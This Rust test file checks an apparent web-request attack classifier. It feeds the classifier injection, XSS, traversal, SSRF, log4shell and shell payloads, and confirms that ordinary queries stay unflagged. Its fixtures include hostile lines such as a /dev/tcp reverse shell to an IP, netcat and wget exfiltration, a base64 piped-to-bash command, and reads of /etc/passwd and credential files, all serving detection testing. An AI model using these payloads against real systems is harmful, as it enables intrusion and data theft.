use super::{Classes, Zone, in_agent, in_parameter, in_referer, in_target, shapes};

fn classes(target: &str) -> Classes {
    let (path, query) = match target.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (target, None),
    };
    in_target(path, query)
}

fn names(classes: Classes) -> String {
    classes.names().collect::<Vec<_>>().join(" ")
}

#[track_caller]
fn check(expected: &str, targets: &[&str]) {
    for target in targets {
        let found = names(classes(target));
        assert!(found.split(' ').any(|name| name == expected), "{target}: `{found}`");
    }
}

#[test]
fn sql_in_parameters() {
    check(
        "sql_injection",
        &[
            "/a?id=1%27%20or%20%271%27=%271",
            "/a?id=1+or+1=1--",
            "/a?id=-1+UNION/**/ALL/**/SELECT+user,2",
            "/a?id=1%2527%2520union%2520select%2520null",
            "/a?q=1;+drop+table+users--",
            "/a?id=1+and+sleep(5)",
            "/a?id=1'+waitfor+delay+'0:0:5",
            "/a?u=admin'--",
            "/a?id=(select+*+from+users)",
            "/a?t=information_schema.tables",
            "/items/1'%20or%20'a'='a",
        ],
    );
}

#[test]
fn scripts_in_parameters() {
    check(
        "xss",
        &[
            "/a?q=<script>alert(1)</script>",
            "/a?q=%3Csvg%2Fonload%3Dalert(1)%3E",
            "/a?q=%22%20onmouseover=%22alert(1)",
            "/a?next=javascript:alert(1)",
            "/a?q=%253Cimg%2520src=x%2520onerror=prompt(1)%253E",
        ],
    );
}

#[test]
fn ways_out_of_the_root() {
    check(
        "path_traversal",
        &[
            "/a/../../etc/passwd",
            "/a/..%2f..%2fetc%2fpasswd",
            "/a/%252e%252e%252fetc%252fpasswd",
            "/a?f=....//....//etc/passwd",
            "/a/%c0%ae%c0%ae/x",
            "/a?f=c:%5Cwindows%5Cwin.ini",
            "/static/..;/manager/html",
        ],
    );
}

#[test]
fn commands_and_code() {
    check(
        "command_injection",
        &[
            "/a?h=1;cat+/etc/passwd",
            "/a?h=$(whoami)",
            "/a?h=`id`",
            "/a?h=x|nc+10.0.0.1+80",
            "/a?c=/bin/sh+-c+id",
            "/a?login=$(echo${IFS}aWQ=|base64${IFS}-d|bash)",
            "/a?x=127.0.0.1%26%26wget%20http://x/y",
        ],
    );
    check(
        "code_injection",
        &[
            "/a?c=<?php+system('id');",
            "/a?c=phpinfo()",
            "/a?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
            "/a?n={{7*7}}",
            "/a?n=${7*7}",
            "/a?__proto__[x]=1",
            "/a?class.module.classLoader.resources=1",
            "/a?x=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D",
        ],
    );
}

#[test]
fn requests_that_servers_are_told_to_send() {
    check(
        "ssrf",
        &[
            "/a?url=http://169.254.169.254/latest/meta-data/",
            "/a?u=http%3A%2F%2F127.0.0.1:6379/",
            "/a?u=gopher://x:25/",
            "/a?u=http://2130706433/",
            "/a?url=file:///etc/passwd",
        ],
    );
    check("rfi", &["/a?page=http://203.0.113.7/shell.txt?", "/a?inc=ftp://x.example/a.php"]);
}

#[test]
fn lookups_and_broken_headers() {
    check("log4shell", &["/a?x=${jndi:ldap://x/a}", "/a?x=$%7B$%7Blower:j%7Dndi:dns://x%7D"]);
    check("protocol", &["/a?x=1%0d%0aSet-Cookie:+a=b", "/a%00.jpg"]);
}

#[test]
fn agents_and_referers_count_too() {
    let check = |found: Classes, expected: &str| assert_eq!(names(found), expected);
    check(in_agent("sqlmap/1.7#stable (https://sqlmap.org)"), "scanner");
    check(in_agent("${jndi:ldap://203.0.113.7/a}"), "log4shell");
    check(in_agent("() { :;}; /bin/bash -c id"), "command_injection");
    check(in_referer("https://x.example/?q=1'+union+select+1,2"), "sql_injection");
    check(in_agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"), "");
    check(in_agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), "");
}

#[test]
fn payloads_are_told_by_their_shape_too() {
    check(
        "sql_injection",
        &[
            "/a?id=substr%28",
            "/a?id=%7c%7cchr%28",
            "/a?id=1%2cnull%2cnull",
            "/a?id=(lo_get(1))::int",
            "/a?f='{}'::jsonb+%3C@+'{}'",
            "/a?u_id[$ne]=2",
            "/a?n=test%27+or+1%3D",
            "/a?n=xor+3%3C",
            "/a?n=+having+count(x)+%3E+5",
            "/a?n=select+sleep(-3+*+-2)",
            "/a?n=;insert+/*x*/into+t+values",
        ],
    );
    check(
        "command_injection",
        &[
            "/a?f=for+/f+%22tokens=1%22+%25a+in+(x)+do+y",
            "/a?f=if+not+exist+c:\\x+(cmd)",
            "/a?f=if+/i+%22%25v%25%22+equ+%221%22+echo+x",
            "/a?s=/etc/pas[s]wd",
            "/a?s=cat+/etc/${a}passwd",
            "/a?s=%27c%27url+localhost",
            "/a?s=d=/dev%26%26(sh)0%3E$d/tcp/51.15.142.1/777",
            "/a?s=;iwr+http://x.example/a.ps1",
        ],
    );
    check(
        "code_injection",
        &[
            "/a?x=@{[system+'id']}",
            "/a?x=%7B%25+if+True+%25%7D49",
            "/a?x=$__[_](24)",
            "/a?x=(system)('uname')+;",
            "/a?x=O:8:%22stdClass%22:4:{s:3",
            "/a?x=array_diff+(x)",
            "/a?x=while(true);",
            "/a?a[constructor][prototype]=1",
        ],
    );
    check(
        "ssrf",
        &["/a?u=http://2852039166/", "/a?u=http://[::ffff:a9fe:a9fe]", "/a?u=rsync://x/"],
    );
    check("rfi", &["/a?x=url:file://foo.bar", "/a?x=ftp://evil.example/x"]);
    check(
        "path_traversal",
        &["/.env", "/app/.claude/settings.json", "/proc/net/tcp", "/a?f=..\\x"],
    );
    check("protocol", &["/?filter=value)(gidNumber%3C=100"]);
}

#[test]
fn one_shape_hides_no_other() {
    let shapes = ["setinterval(x)", "base64_decode(y)", "[$ne]", "/proc/self", "pip install x"];
    for first in shapes {
        for second in shapes {
            let of = |text: &str| {
                let mut found = Classes::default();
                shapes::find(text, Zone::Parameter, &mut found);
                found
            };
            let mut both = of(first);
            both.join(of(second));
            assert!(!of(first).is_empty(), "{first}");
            let joined = format!("a={first};b={second}");
            assert_eq!(names(of(&joined)), names(both), "{joined}");
        }
    }
}

#[test]
fn shapes_leave_honest_texts_alone() {
    for target in [
        "/a?q=std::vector",
        "/a?q=Foo::Text",
        "/a?ids=[1,null,null]",
        "/a?q=sleep+well",
        "/a?q=gif+and+png",
        "/a?q=what+if+it+rains",
        "/a?q=for+sale+in+(berlin)",
        "/a?q=US$100+(new)",
        "/a?q=operating+system+(linux)",
        "/a?file=report+(1).pdf",
        "/a?$filter=price+gt+5",
        "/a?f={a,b}",
        "/a?fields=id,name(first)",
        "/.well-known/openid-configuration",
        "/a/..b",
        "/a?v=1..5",
        "/a?redirect_uri=https://app.example/cb",
        "/a?q=O'Brien+and+sons",
        "/a?q=touch+(me)",
        "/a?range=%5B1,2%5D",
        "/a?q=either+or+none",
        "/a?t=12:30::00",
        "/a?sort[0][name]=asc",
        "/a?q=having+fun",
        "/a?q=union+select+committee",
        "/a?email=ann%2Bx@example.com",
    ] {
        assert_eq!(names(classes(target)), "", "{target}");
    }
}

#[test]
fn honest_texts_with_odd_marks_are_left_alone() {
    for target in [
        "/search?q=O%27Brien+and+sons",
        "/search?q=rock+%27n%27+roll+or+jazz",
        "/search?q=select+a+gift+from+the+shop",
        "/search?q=union+station+select+hotels",
        "/search?q=drop+table+cloth",
        "/search?q=update+on+the+case",
        "/docs?q=printf(foo)",
        "/docs?q=sprintf(format,+1)",
        "/convert?doc=%3C%3Fxml-stylesheet%20href%3D%22style.xsl%22%3F%3E",
        "/search?filter={\"a\":{\"b\":[1,2]},\"c\":\"x;y\"}",
        "/search?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82+%D0%BC%D0%B8%D1%80",
        "/search?q=%E4%BD%A0%E5%A5%BD",
        "/auth?redirect_uri=http://localhost:3000/callback&scope=a+b",
        "/login?next=https%3A%2F%2Fshop.example%2Fcart%3Fitem%3D1",
        "/users/{{userId}}",
        "/v1/orders?sort=-created&filter[status]=open&fields=id,name",
        "/a?date=2026-11-20T08:00:00%2B01:00&price=10..20",
        "/a?q=100%25+cotton;+blue",
        "/a?q=C%2B%2B+or+C%23",
        "/a?expr=a%3E1+and+b%3C2",
        "/a?q=cats+%26+dogs",
        "/a?note=see+me+at+5+--+thanks",
        "/files/report--final.pdf",
        "/a?email=ann%2Bshop@example.com",
        "/a?name=%22The+Who%22",
        "/a?q=what+is+my+ip%3F",
        "/v2/projects/metadata?view=full",
        "/a?q=order+by+phone&limit=10",
    ] {
        assert_eq!(names(classes(target)), "", "{target}");
    }
}

/// Numbers that are the same on every run.
struct Dice(u64);

impl Dice {
    fn below(&mut self, bound: usize) -> usize {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap() % bound
    }

    fn pick<'w>(&mut self, words: &[&'w str]) -> &'w str {
        words[self.below(words.len())]
    }
}

const WORDS: &[&str] = &[
    "blue",
    "shoe",
    "O'Brien",
    "D'Angelo",
    "café",
    "Žižek",
    "Müller",
    "naïve",
    "東京",
    "привет",
    "x;y",
    "a&b",
    "50%",
    "C++",
    "C#",
    "node.js",
    "AT&T",
    "R&D",
    "(new)",
    "size:10",
    "\"exact phrase\"",
    "drop",
    "select",
    "union",
    "table",
    "from",
    "where",
    "order",
    "by",
    "or",
    "and",
    "not",
    "insert",
    "update",
    "delete",
    "script",
    "alert",
    "exec",
    "cat",
    "id",
    "ls",
    "who",
    "time",
    "sleep",
    "echo",
    "a>b",
    "n=1",
    "{curly}",
    "[x]",
    "~",
    "^",
    "hello!",
    "rock 'n' roll",
    "it's",
    "the cat's",
    "user@example.com",
    "+49 30 1234",
    "$5.99",
    "#tag",
    "2026-11-20",
    "12:30",
    "1,000.50",
    "e.g.",
    "etc.",
    "system",
    "function",
    "return",
    "document",
    "window",
    "eval",
    "config",
    "admin",
    "root",
    "passwords",
];

const PATHS: &[&str] = &[
    "/",
    "/v1/users/{n}",
    "/v1/users/{n}/orders",
    "/v1/orders",
    "/search",
    "/api/v2/items/{n}",
    "/static/app.{n}.js",
    "/img/{n}.png",
    "/healthz",
    "/auth/token",
    "/docs/index.html",
    "/feed.xml",
    "/wiki/{w}",
    "/tags/{w}",
    "/a/b/c/d/e",
    "/v1/files/report-{n}.pdf",
    "/.well-known/openid-configuration",
];

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                char::from(b).to_string()
            }
            b' ' => "+".to_owned(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// A target as honest clients send it.
fn ordinary(dice: &mut Dice) -> String {
    let number = dice.below(100_000).to_string();
    let word = encoded(dice.pick(WORDS)).replace('+', "%20");
    let mut target = dice.pick(PATHS).replace("{n}", &number).replace("{w}", &word);
    for place in 0..dice.below(4) {
        let words: Vec<&str> = (0..=dice.below(4)).map(|_| dice.pick(WORDS)).collect();
        let value = match dice.below(5) {
            0 => dice.below(1_000_000).to_string(),
            1 => encoded(&format!(
                "{{\"name\":\"{}\",\"n\":[1,2,{}],\"on\":true}}",
                words.join(" ").replace('"', "\\\""),
                dice.below(9)
            )),
            2 => encoded(&format!("https://shop.example/{}?ref={}", dice.below(99), words[0])),
            _ => encoded(&words.join(" ")),
        };
        let name = dice.pick(&["q", "filter", "name", "page", "sort", "return_to", "ids[]", "f.x"]);
        target.push(if place == 0 { '?' } else { '&' });
        target.push_str(&format!("{name}={value}"));
    }
    target
}

#[test]
fn twenty_thousand_ordinary_targets_show_nothing() {
    let mut dice = Dice(7);
    let flagged: Vec<String> = (0..20_000)
        .map(|_| ordinary(&mut dice))
        .filter(|target| !classes(target).is_empty())
        .map(|target| format!("{target}: {}", names(classes(&target))))
        .collect();
    assert!(
        flagged.is_empty(),
        "{} of 20,000:\n{}",
        flagged.len(),
        flagged[..flagged.len().min(30)].join("\n")
    );
}

#[test]
fn a_parameter_is_judged_by_itself() {
    assert!(!in_parameter("id=1'+or+'1'='1").is_empty());
    assert!(in_parameter("name=plain").is_empty());
}
